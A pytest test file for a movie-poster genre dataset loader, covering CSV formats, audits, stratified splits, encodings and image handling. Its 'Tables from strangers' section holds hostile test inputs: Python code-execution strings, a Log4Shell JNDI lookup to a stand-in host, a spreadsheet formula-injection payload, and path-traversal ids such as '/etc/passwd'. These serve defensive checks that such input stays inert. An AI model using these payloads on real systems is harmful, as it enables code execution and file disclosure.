import ast
import csv
import os
import struct
import tracemalloc
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import ROOT
from PIL import Image, ImageFile

from genre_utils.dataset import (
    SPLIT_SEED,
    Audit,
    describe,
    fingerprint,
    is_public,
    load_dataset,
    picture_sizes,
    split_posters,
    stratify_rare,
)
from genre_utils.images import read_poster
from genre_utils.sources import find_data, is_other_table, normal_id
from genre_utils.sources.pictures import Pictures
from genre_utils.support import DataError


@pytest.fixture
def make(tmp_path):
    """Write a small data set of plain pictures; returns it loaded."""

    def make(csv: str, pictures: dict[str, int] | None = None, encoding: str = "utf-8"):
        images = tmp_path / "Images"
        images.mkdir(exist_ok=True)
        for name, shade in (pictures or {f"p{i}.jpg": i for i in range(40)}).items():
            Image.new("RGB", (20, 30), (shade, 2 * shade, 3 * shade)).save(images / name)
        (tmp_path / "train.csv").write_text(csv, encoding)
        return load_dataset(find_data(str(tmp_path)))

    return make


def findings(data) -> dict[str, list[str]]:
    return {key.split(" (")[0]: names for key, names in data.audit.findings.items()}


ROWS = [f"p{i},{'Drama' if i % 2 else 'Comedy'}" for i in range(40)]


@pytest.mark.parametrize(
    "csv",
    [
        "Id,Drama,Comedy,N/A\np0,1,0,0\np1,1,1,0\np2,0,0,1\n",
        "id,genre\np0,['Drama']\np1,\"['Drama', 'Comedy']\"\np2,['N/A']\n",
        "filename,genres\np0.jpg,Drama\np1.jpg,Drama|Comedy\np2.jpg,\n",
        'file,labels\np0.jpg,Drama\np1.jpg,"Drama, Comedy"\np2.jpg,\\N\n',
        "Id;Comedy;Drama\np0;0.0;1.0\np1;1.0;1.0\np2;0.0;0.0\n",
        "path,Drama,Comedy\nImages/p0.jpg,True,False\nImages/p1.jpg,True,True\nImages/p2.jpg,False,False\n",
        "Id,is_adult,colour,Genre\np0,0,1,Drama\np1,0,1,Drama|Comedy\np2,1,0,N/A\n",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_all_ways_to_write_genres_give_the_same_table(make, csv, encoding):
    data = make(csv, {"p0.jpg": 1, "p1.jpg": 2, "p2.jpg": 3}, encoding)
    assert data.genres == ("Comedy", "Drama")
    np.testing.assert_array_equal(data.labels(data.posters), [[0, 1], [1, 1], [0, 0]])
    assert data.posters["unlabelled"].tolist() == [False, False, True]
    assert data.has_missing_column == ("N/A,1" in csv or "Comedy,N/A" in csv)


def test_audit_names_everything_that_is_wrong(make):
    csv = "Id,Genre\n" + "\n".join([*ROWS, "p1,Drama", "gone,Drama", "twin,War", "none,N/A"])
    pictures = {f"p{i}.jpg": i for i in range(40)} | {"twin.jpg": 3, "none.jpg": 99, "x.jpg": 98}
    found = findings(make(csv, pictures))
    assert found["rows without a picture"] == ["gone"]
    assert found["pictures without a row"] == ["x.jpg"]
    assert found["rows whose id stood before"] == ["p1"]
    assert found["byte-identical pictures"] == ["twin = p3"]
    assert found["posters without a real genre"] == ["none"]
    assert found["genres with fewer than 20 posters"] == ["War (1)"]


def test_an_audit_counts_all_names_and_says_nothing_of_empty_findings(capsys):
    audit = Audit()
    for finding, names in (("odd rows", ["a", "b"]), ("nothing", []), ("odd rows", ["c"])):
        audit.add(finding, names)
    assert audit.summary() == "Found in the data: 3 odd rows." and Audit().summary() == ""
    assert audit.table().values.tolist() == [["odd rows", 3, "a, b, c"], ["nothing", 0, ""]]
    audit.print_examples(2)
    assert capsys.readouterr().out == "odd rows: a, b and 1 more\n"


def test_nineteen_posters_are_few_and_columns_and_tables_beside_are_named(make, tmp_path):
    (tmp_path / "other.csv").write_text("Id,Year\np0,1999\n")
    rows = [f"{line},1999" for line in ROWS[:39]]
    found = findings(make("Id,Genre,Year\n" + "\n".join(rows)))
    assert found["other tables beside it"] == ["other.csv"]
    assert found["columns not used"] == ["'Year'"]
    assert found["genres with fewer than 20 posters"] == ["Drama (19)"]
    with pytest.raises(DataError, match="Give DATA the path of other.csv if that is the table"):
        make("Id,Year\np0,1999\n")


def test_one_picture_under_many_ids_is_on_one_side_and_said(make):
    lists = ["Drama", "War", "Drama|War"]
    rows = [f"p{i},{lists[i % 3]}" for i in range(30)] + ["q0,Drama", "q1,War"]
    pictures = {f"p{i}.jpg": 7 for i in range(30)} | {"q0.jpg": 8, "q1.jpg": 8}
    data = make("Id,Genre\n" + "\n".join(rows), pictures)
    assert findings(data)["pictures with many different sets of genres"] == ["p0 (3 sets)"]
    assert findings(data)["byte-identical pictures"][:2] == ["p1 = p0", "p2 = p0"]
    assert len(set(data.posters["split"][:30])) == len(set(data.posters["split"][30:])) == 1


def test_ids_of_imdb_in_another_column_are_kept_by_path(make):
    films = ["tt0114709", "114709", "https://www.imdb.com/title/TT0114709/", "0114709.0", "x", ""]
    rows = [f"p{i},{films[i % 6]},{'Drama' if i % 2 else 'War'}" for i in range(40)]
    data = make("file,imdb,Genre\n" + "\n".join(rows))
    found = {Path(path).name: film for path, film in data.imdb_ids.items()}
    assert found == {f"p{i}.jpg": "tt0114709" for i in range(40) if i % 6 < 4}
    data = make("file,link,Genre\n" + "\n".join(rows))
    assert set(data.imdb_ids.values()) == {"tt0114709", "TT0114709"}


def test_a_card_says_of_the_posters_what_is_so(make, tmp_path):
    data = make("Id,Genre\n" + "\n".join(ROWS))
    Image.new("RGB", (50, 90)).save(tmp_path / "Images" / "p0.jpg")
    expected = {"public": False, "posters_of": {"Comedy": 20, "Drama": 20}, "size": [30, 20]}
    assert describe(data) == expected
    ids = (ROOT / "genre_utils/splits/imdb_test_ids.txt").read_text("utf-8").split()
    assert describe(replace(data, posters=data.posters.assign(id=ids[:40])))["public"]


def test_the_audit_names_the_last_part_of_addresses(make):
    films = [f"tt00860{i}" for i in range(10, 20)]
    rows = [f"https://www.imdb.com/title/{film}/?ref_=fn,{g}" for film in films for g in ("A", "B")]
    data = make("imdb_url,genre\n" + "\n".join(rows), {f"{film}.jpg": 1 for film in films})
    found = findings(data)
    assert found["posters of several rows"] == films
    assert found["byte-identical pictures"][0] == f"{films[1]} = {films[0]}"


def test_unreadable_pictures_are_left_out_and_named(make):
    data = make("Id,Genre\n" + "\n".join(ROWS))
    path = data.posters["path"][5]
    rest = data.without({path: "the picture is damaged"})
    assert len(rest.posters) == 39 and rest.posters.index.tolist() == list(range(39))
    assert set(findings(rest)) > set(findings(data))
    assert findings(rest)["unreadable pictures"] == ["p5.jpg (the picture is damaged)"]
    with pytest.raises(DataError, match="None of the 40 pictures"):
        data.without(dict.fromkeys(data.posters["path"], "damaged"))


def test_damaged_files_of_one_content_do_not_change_the_split_when_they_are_mended(make):
    csv = "Id,Genre\n" + "\n".join(ROWS)
    whole = make(csv)
    for name in ("p3", "p4", "p9"):
        (whole.source.images / f"{name}.jpg").write_bytes(b"no picture")
    damaged = load_dataset(whole.source)
    assert fingerprint(damaged) == fingerprint(whole)
    assert not findings(damaged)["byte-identical pictures"]


def test_twins_stay_on_one_side_of_the_split():
    labels = np.ones((400, 1), np.int8)
    identities = [f"picture {i // 2}" for i in range(400)]
    split = split_posters([f"id{i}" for i in range(400)], identities, labels)
    assert (split[::2] == split[1::2]).all()
    assert set(split) == {"train", "validation", "test"}


def test_split_is_repeatable_and_stratified():
    rng = np.random.default_rng(0)
    labels = (rng.random((1000, 3)) < [0.8, 0.3, 0.03]).astype(np.int8)
    ids = [f"id{i}" for i in range(1000)]
    split = split_posters(ids, ids, labels)
    assert (split == split_posters(ids, ids, labels)).all()
    # The same posters in each version: those of a model's test set were not trained on.
    assert np.flatnonzero(split == "test")[:5].tolist() == [0, 23, 30, 35, 43]
    rare = labels[:, 2] == 1
    for part in ("validation", "test"):
        assert (split == part).sum() == pytest.approx(100, abs=2)
        assert (split[rare] == part).mean() == pytest.approx(0.1, abs=0.05)


def test_public_data_get_the_shipped_split():
    folder = Path(load_dataset.__code__.co_filename).parent / "splits"
    shipped = {
        split: (folder / f"imdb_{split}_ids.txt").read_text().split()
        for split in ("test", "validation")
    }
    assert len(set(shipped["test"])) == 726
    assert not set(shipped["test"]) & set(shipped["validation"])
    ids = [*shipped["test"], *shipped["validation"], *(f"other{i}" for i in range(900))]
    # A picture of the test set that stands again under another id follows it there.
    identities = [*ids[:-1], shipped["test"][0]]
    split = split_posters(ids, identities, np.ones((len(ids), 2), np.int8))
    assert (split == "test").sum() == 727 and split[-1] == "test"
    assert (split == "validation").sum() == len(shipped["validation"])


def test_a_small_copy_of_the_public_data_keeps_the_public_test_set():
    folder = Path(load_dataset.__code__.co_filename).parent / "splits"
    test = (folder / "imdb_test_ids.txt").read_text().split()[:100]
    ids = [*test, *(f"other{i}" for i in range(900))]
    labels = np.ones((1000, 2), np.int8)
    assert set(np.array(ids)[split_posters(ids, ids, labels) == "test"]) == {*test}
    numbers = [name.removeprefix("tt").lstrip("0") for name in ids]
    assert (split_posters(numbers, ids, labels)[:100] == "test").all()


@pytest.mark.parametrize("genres", [1, 2, 4])
@pytest.mark.parametrize("rows", range(1, 24))
def test_tiny_data_can_be_split(rows, genres):
    labels = np.eye(genres, dtype=np.int8)[np.arange(rows) % genres]
    ids = [f"id{i}" for i in range(rows)]
    split = split_posters(ids, ids, labels)
    assert (split == "train").sum() >= rows / 2


def test_limit_is_a_seeded_sample(sample_folder):
    source = find_data(str(sample_folder))
    first, again = load_dataset(source, 50, 1), load_dataset(source, 50, 1)
    assert len(first.posters) == 50
    assert first.posters.equals(again.posters)
    assert not first.posters.equals(load_dataset(source, 50, 2).posters)
    whole = load_dataset(source).posters.set_index("id")
    assert first.posters.set_index("id").equals(whole.loc[first.posters["id"]])
    assert first.limit == 50
    assert len(load_dataset(source, 1).posters) == 1


def test_a_table_of_which_each_row_is_left_out_is_refused_with_the_reason(make):
    with pytest.raises(DataError, match="each was left out.*2 posters whose rows contradict"):
        make("Id,Genre\np0,Drama|War\np0,Comedy|War\np1,Drama|War\np1,Comedy|War\n")


@pytest.mark.parametrize("limit", [-1, 5.5, "5", True])
def test_a_limit_that_is_no_whole_number_is_named(sample_folder, limit):
    with pytest.raises(ValueError, match="limit is .*: give a whole number from 0"):
        load_dataset(sample_folder, limit)


def test_sample_labels_agree_with_its_lists(sample_folder):
    rows = pd.read_csv(sample_folder / "train.csv", keep_default_na=False).set_index("Id")
    data = load_dataset(find_data(str(sample_folder)))
    for row in data.posters.to_dict("records"):
        names = ast.literal_eval(rows.loc[row["id"], "Genre"])
        assert [g for g in data.genres if row[g]] == sorted(set(names) - {"N/A"})


@pytest.mark.parametrize(
    ("csv", "sentence"),
    [
        ("title,Genre\nA,Drama\n", "no column of ids"),
        ("title,Genre\np0,Drama\nA,War\nB,War\n", "no column of ids"),
        ("Id,Year\np0,1999\n", "no 0/1 columns and no column named"),
        ("Id,Drama\np0,1\np1,0\n", "a 0/1 column of one genre only, 'Drama', and no column named"),
        ("Id,Genre\np0,\"['Drama'\"\np1,\"['Drama'\"\n", "cannot be read, such as"),
        ("Id,Genre\np0,Drama\np1,split\n", "is reserved"),
        ("Id,Genre\nq0,Drama\nq1,War\n", "has a picture"),
        ("", "cannot be read as a CSV"),
        ("Id,Genre\n", "has a header and no row: write a row for each poster"),
        ("Id,Drama,War\n", "has a header and no row"),
        ("Id,Genre\np0,1\np1,0\n", "the column 'Genre' holds 0 and 1 and no names"),
        ("Id,SciFi,Sci-Fi\np0,1,0\np1,0,1\n", "gives Sci-Fi alone; .* or name each 0/1 column"),
        ("Id,Genre\np0,N/A\np1,-\n", "gives no genre; the model needs two .* found 'N/A'"),
    ],
)
def test_hopeless_csv_is_one_sentence(make, csv, sentence):
    with pytest.raises(DataError, match=sentence):
        make(csv)


RESERVED = ("id", "path", "split", "unlabelled", "poster", "rank", "genre", "score", "error")


@pytest.mark.parametrize("name", RESERVED)
def test_a_genre_named_as_a_column_of_our_tables_is_refused(make, name):
    with pytest.raises(DataError, match=f"a genre named '{name}', which is reserved: rename it"):
        make(f"Id,Genre\np0,Drama\np1,{name}\n", {"p0.jpg": 1, "p1.jpg": 2})


def test_shipped_validation_ids_are_the_seeded_tenth(tmp_path):
    """Where the real posters are at hand, the shipped list can be made again."""
    folder = os.environ.get("POSTER_GENRES_DATA")
    if not folder:
        pytest.skip("POSTER_GENRES_DATA is not set: no real posters here")
    data = load_dataset(find_data(folder))
    rest = data.posters[(data.posters["split"] != "test") & ~data.posters["unlabelled"]]
    chosen = stratify_rare(data.labels(rest), 0.1, SPLIT_SEED)
    expected = set(data.part("validation")["id"])
    assert set(rest["id"].to_numpy()[chosen]) == expected


@pytest.mark.parametrize("rows", [3, 4, 20])
@pytest.mark.parametrize("share", [0.01, 0.5, 0.95])
def test_of_few_rows_any_share_is_chosen_and_some_are_left(rows, share):
    labels = np.eye(2, dtype=int)[np.arange(rows) % 2]
    assert 0 < len(stratify_rare(labels, share, seed=0)) < rows


def test_blank_cells_are_zero_where_nobody_writes_zero(make):
    data = make("Id,Drama,Comedy\np0,1,\np1,,1\n", {"p0.jpg": 1, "p1.jpg": 2})
    np.testing.assert_array_equal(data.labels(data.posters), [[0, 1], [1, 0]])


@pytest.mark.parametrize("row", ["p0,1,", "p0,1"])
def test_a_blank_or_missing_cell_beside_zeros_leaves_its_poster_out(make, row):
    pictures = {"p0.jpg": 1, "p1.jpg": 2, "p2.jpg": 3}
    data = make(f"Id,Drama,Comedy\n{row}\np1,0,1\np2,,\n", pictures)
    assert findings(data)["blank cells beside 0 and 1"] == ["line 2: Comedy"]
    assert list(data.posters["id"]) == ["p1", "p2"]
    assert list(data.posters["unlabelled"]) == [False, True]


def test_too_few_posters_to_train_and_choose_are_said(make):
    with pytest.raises(DataError, match="too few can be used"):
        make("Id,Genre\np0,Drama\np1,Comedy\n", {"p0.jpg": 1, "p1.jpg": 2}).check_parts()


def test_why_too_few_posters_are_left_is_said(make):
    data = make("Id,Genre\np0,Drama\np1,Comedy\n", {"p0.jpg": 1, "p1.jpg": 2})
    sentence = "of 2 posters, too few can be used; raise LIMIT, or give more posters. Found in "
    with pytest.raises(DataError, match=sentence):
        replace(data, limit=2).check_parts()
    broken = data.without({data.posters["path"][0]: "damaged"})
    sentence = r"mend the unreadable pictures \(1\), such as p0.jpg \(damaged\). Found in the"
    with pytest.raises(DataError, match=sentence):
        broken.check_parts()


def test_a_test_set_without_a_genre_is_said(make):
    data = make("Id,Genre\n" + "\n".join(ROWS))
    data.check_parts()
    data.posters.loc[data.posters["split"] == "test", "unlabelled"] = True
    data.check_parts(["train", "validation"])
    with pytest.raises(DataError, match="No labelled poster is left for test"):
        data.check_parts()


def test_sizes_are_those_of_upright_pictures(tmp_path, monkeypatch):
    text = struct.pack("<2sHLHHHL4sL", b"II", 42, 8, 1, 0x0112, 2, 2, b"6", 0)
    exifs = {"plain.png": b"", "damaged.png": b"no header of EXIF", "text.jpg": b"Exif\0\0" + text}
    for name, orientation in (("5.jpg", 5), ("6.jpg", 6), ("7.png", 7), ("8.png", 8), ("9.jpg", 9)):
        exifs[name] = Image.Exif()
        exifs[name][0x0112] = orientation
    paths = [str(tmp_path / name) for name in exifs]
    for path, exif in zip(paths, exifs.values(), strict=True):
        Image.new("RGB", (40, 60)).save(path, exif=exif)
    expected = [read_poster(path).shape[:2] for path in paths]
    monkeypatch.setattr(ImageFile.ImageFile, "load", lambda _: pytest.fail("pixels are decoded"))
    assert list(map(tuple, picture_sizes(paths))) == expected
    assert expected == [(60, 40)] * 3 + [(40, 60)] * 4 + [(60, 40)]


# Tables from strangers


@pytest.mark.parametrize(
    "cell",
    [
        "__import__('os').system('touch evil')",
        "[__import__('os').system('touch evil')]",
        "[open('evil', 'w')]",
        "(lambda: open('evil', 'w'))()",
        "${jndi:ldap://evil}",
        "=cmd|' /C calc'!A0",
        "[" * 9_000,
        "[" + "-" * 200_000 + "1]",
    ],
)
def test_code_in_a_genre_cell_is_data(make, cell, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    quoted = cell.replace('"', '""')
    data = make(
        "Id,Genre\n" + "\n".join(ROWS) + f'\np39x,"{quoted}"\n',
        {"p39x.jpg": 1, "p1.jpg": 2, "p2.jpg": 3},
    )
    assert not (tmp_path / "evil").exists()
    assert data.posters["id"].tolist() == ["p1", "p2"] and data.genres == ("Comedy", "Drama")
    (unread,) = findings(data)["genre cells that cannot be read"]
    assert unread.startswith("line 42: ")


def test_of_several_columns_the_one_that_finds_pictures_counts(make):
    rows = "\n".join(f"{i},./Images/{row}" for i, row in enumerate(ROWS))
    for name in ("filename", "File_Name", "Image Path"):
        data = make(f"id,{name},Genre\n{rows}")
        assert len(data.posters) == 40 and data.posters["id"][0] == "./Images/p0"


def test_nothing_outside_the_folder_of_pictures_is_opened(make, tmp_path):
    (tmp_path / "secret.jpg").write_bytes(b"picture")
    (tmp_path / "Images").mkdir()
    (tmp_path / "Images" / ".hidden.jpg").write_bytes(b"picture")
    for name, target in {"link.jpg": "../secret.jpg", "out": "..", "good.jpg": "p0.jpg"}.items():
        (tmp_path / "Images" / name).symlink_to(target)
    bad = ["../secret.jpg", "../secret", "/etc/passwd", "..\\secret.jpg", ".hidden", ".hidden.jpg"]
    bad += ["Images/.hidden.jpg", ".", "..", "/", "link.jpg", "out/secret.jpg", "out", "~/secret"]
    last = ["Images/../p1", "other/p2", "Images\\Images\\p3", "../p4.jpg", "/etc/p5", "good"]
    rows = [f"{name},War" for name in bad] + [f"{name},Western" for name in last]
    # The table's other rows are of other pictures: a row's last part says which it is.
    data = make("Id,Genre\n" + "\n".join([*ROWS[6:], *rows]))
    assert findings(data)["rows without a picture"] == bad
    assert findings(data)["links that lead out of the folder"] == ["link.jpg"]
    found = data.posters[data.posters["Western"] == 1]
    assert found["id"].tolist() == last
    names = [Path(path).name for path in found["path"]]
    assert names == ["p1.jpg", "p2.jpg", "p3.jpg", "p4.jpg", "p5.jpg", "good.jpg"]
    assert "War" in data.genres and not data.posters["War"].any()


def test_a_folder_of_links_that_lead_out_says_so(tmp_path):
    (tmp_path / "elsewhere.jpg").write_bytes(b"picture")
    (tmp_path / "Images").mkdir()
    (tmp_path / "Images" / "about.md").symlink_to("../train.csv")
    (tmp_path / "train.csv").write_text("Id,Genre\n" + "\n".join(ROWS))
    with pytest.raises(DataError, match=r"No row of .* has a picture"):
        load_dataset(find_data(str(tmp_path)))
    (tmp_path / "Images" / "p0.jpg").symlink_to("../elsewhere.jpg")
    with pytest.raises(DataError, match=r"no pictures but links .*'p0.jpg'.*copy the pictures"):
        load_dataset(find_data(str(tmp_path)))


def test_ids_and_genres_that_look_like_nothing_stay_text(make):
    rows = "NA,Drama\nnull,NaN|War\nNone,None\n"
    data = make("Id,Genre\n" + rows, {"NA.jpg": 1, "null.jpg": 2, "None.jpg": 3})
    assert data.posters["id"].tolist() == ["NA", "null", "None"]
    np.testing.assert_array_equal(data.labels(data.posters), [[1, 0], [0, 1], [0, 0]])


def test_two_columns_of_one_name_are_refused(make):
    for header in ("Id,Genre,genre", "Id,Drama,Comedy,Drama", '"Id","id ",Genre'):
        with pytest.raises(DataError, match="two columns named"):
            make(header + "\np0,1,0,1\n")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le"])
def test_encodings_and_line_ends_give_the_same_table(make, encoding):
    csv = "Id,Genre,Title\r\n" + "".join(
        f'p{i},{"Comédie" if i % 2 else "Drama"},"a title\r\nof ""two"" lines, {i}"\r\n'
        for i in range(9)
    )
    text = "\ufeff" + csv if encoding == "utf-16-le" else csv
    data = make(text, {f"p{i}.jpg": i for i in range(9)}, encoding)
    assert data.genres == ("Drama", "Comédie")
    assert data.labels(data.posters)[:, 1].tolist() == [0, 1, 0, 1, 0, 1, 0, 1, 0]


def test_a_table_in_another_encoding_is_one_sentence(make):
    with pytest.raises(DataError, match="neither UTF-8 nor Windows-1252"):
        make("Id,Genre\np0,ホラー\n", encoding="shift_jis")


def test_a_table_in_two_encodings_is_refused(make, tmp_path):
    text = "Id,Title,Genre\np0,a,Komödie\np1,caf\udce9,Drama\n".encode("utf-8", "surrogateescape")
    with pytest.raises(DataError, match="two encodings: line 2 is UTF-8, line 3 is not"):
        make(text.decode("cp1252"), encoding="cp1252")
    assert is_other_table(tmp_path / "train.csv"), "no command writes over it"


def test_a_line_without_end_is_refused_and_does_not_fill_the_memory(make, tmp_path):
    make("Id,Genre\n" + "\n".join(ROWS))
    with open(tmp_path / "train.csv", "wb") as file:
        file.truncate(50_000_000)
    tracemalloc.start()
    with pytest.raises(DataError, match="cannot be read as a CSV"):
        load_dataset(find_data(str(tmp_path)))
    assert tracemalloc.get_traced_memory()[1] < 20_000_000
    tracemalloc.stop()


def test_a_thousand_columns_and_rows_that_end_early(make):
    header = ",".join(["Id", "Genre", *(f"note {i}" for i in range(998))])
    rows = [f"p{i},{'Drama' if i % 2 else 'War'}" + ",x" * 998 for i in range(8)]
    data = make("\n".join([header, *rows, "p8", ""]), {f"p{i}.jpg": i for i in range(9)})
    assert data.genres == ("Drama", "War") and len(data.posters) == 9
    assert data.posters["unlabelled"].tolist() == [False] * 8 + [True]


def test_one_row_is_too_few_and_said(make):
    data = make("Id,Drama,War\np0,1,0\n", {"p0.jpg": 1})
    assert len(data.posters) == 1
    with pytest.raises(DataError, match="too few"):
        data.check_parts()
    with pytest.raises(DataError, match="gives Drama alone; .* found 'Drama'"):
        make("Id,Genre\np0,Drama\n")


def test_the_public_posters_are_known_by_their_ids():
    test = (ROOT / "genre_utils/splits/imdb_test_ids.txt").read_text("utf-8").split()
    assert is_public([*test, *(f"tt9{n:06}" for n in range(5000))])
    assert is_public([name.removeprefix("tt").lstrip("0") for name in test])
    assert not is_public([*test[:10], *(f"mine-{n}" for n in range(1000))])


@pytest.mark.parametrize(
    "cell", ["Drama:0|War:1", "Drama:no", "War/0", "-Drama|+War", "{'Drama': 'no', 'War': 'yes'}"]
)
def test_a_genre_that_is_answered_in_its_cell_is_not_guessed(make, cell):
    rows = "\n".join(f'p{i},"{cell}"' for i in range(40))
    with pytest.raises(DataError, match="cannot be read, such as line 2"):
        make(f"Id,Genre\n{rows}\n")


def test_genres_in_a_column_without_a_name_are_not_lost(make):
    rows = "\n".join(f"{i},{line},{'War' if i > 30 else ''}" for i, line in enumerate(ROWS))
    with pytest.raises(DataError, match="line 33: column 4 has no name and holds 'War'"):
        make(f",Id,Genre,\n{rows}\n")
    data = make(",Id,Genre\n" + "\n".join(f"{i},{line}" for i, line in enumerate(ROWS)))
    assert len(data.posters) == 40  # a nameless column of row numbers is no harm


def test_two_columns_of_genres_that_contradict_each_other_are_refused(make):
    rows = "\n".join(f"{line},{'War' if i > 30 else 'Drama'}" for i, line in enumerate(ROWS))
    with pytest.raises(DataError, match="'Genre' .* and 'MovieGenre' .* contradict each other"):
        make(f"Id,Genre,MovieGenre\n{rows}\n")
    rows = "\n".join(
        f"{line},{'War' if i < 3 else line.split(',')[1]}" for i, line in enumerate(ROWS)
    )
    with pytest.raises(DataError, match="contradict each other, here and in 2 other rows"):
        make(f"Id,Genre,MovieGenre\n{rows}\n")
    rows = "\n".join(f"p{i},Sci-Fi,Science Fiction\np{i + 20},War,war" for i in range(20))
    assert make(f"Id,Genre,MovieGenre\n{rows}\n").genres == ("Sci-Fi", "War")
    rows = "\n".join(f"{line},{line.split(',')[1]}|War" for line in ROWS)
    assert make(f"Id,Genre,MovieGenre\n{rows}\n").genres == ("Comedy", "Drama", "War")


def test_an_accent_is_one_character_or_two(make):
    names = [f"e\u0301{i}" for i in range(40)]  # as a Mac unpacks them
    csv = "Id,Genre\n" + "\n".join(f"\xe9{i},{'Drama' if i % 2 else 'War'}" for i in range(40))
    assert len(make(csv, {f"{name}.jpg": i for i, name in enumerate(names)}).posters) == 40
    assert normal_id("E\u0301cran.JPG") == normal_id("\xe9cran")


def test_unlabelled_posters_are_in_no_training_part(make):
    labels = ["N/A" if i % 4 == 0 else "Drama" if i % 2 else "Comedy" for i in range(40)]
    data = make("Id,Genre\n" + "\n".join(f"p{i},{label}" for i, label in enumerate(labels)))
    assert data.posters["unlabelled"].sum() == 10
    for split in ("train", "validation"):
        assert len(data.part(split)) and not data.part(split)["unlabelled"].any()
    assert data.part("test").equals(data.posters[data.posters["split"] == "test"])
    assert data.part("test")["unlabelled"].any()


@pytest.mark.parametrize(("column", "value"), [("split", "test"), ("Drama", 1), ("id", "x")])
def test_the_fingerprint_knows_ids_splits_and_labels(make, column, value):
    data = make("Id,Genre\n" + "\n".join(ROWS))
    changed = replace(data, posters=data.posters.assign(**{column: value}))
    assert fingerprint(changed) != fingerprint(data)
    assert fingerprint(replace(data, posters=data.posters.assign(path="x"))) == fingerprint(data)


def test_a_folder_whose_name_begins_alike_is_outside(tmp_path):
    for name in ("Images", "Images2"):
        (tmp_path / name).mkdir()
    Image.new("RGB", (9, 9)).save(tmp_path / "Images2" / "p0.jpg")
    (tmp_path / "Images" / "link.jpg").symlink_to("../Images2/p0.jpg")
    found = Pictures(tmp_path / "Images")
    assert found.outside == ["link.jpg"] and not found.files


def test_a_row_over_a_million_letters_is_refused(make):
    with pytest.raises(DataError, match="a line has over"):
        make("Id,Genre\n" + "\n".join([*ROWS, "p0," + "Drama|" * 200_000 + "Drama"]))


def test_the_limit_of_python_s_own_reader_is_as_it_was(make):
    before = csv.field_size_limit(100_000)
    make("Id,Genre\n" + "\n".join(ROWS))
    assert csv.field_size_limit(before) == 100_000


def test_a_table_of_zeros_is_no_text(make):
    with pytest.raises(DataError, match="it is no text"):
        make("Id,Genre\n" + "\n".join(ROWS), encoding="utf-16-le")
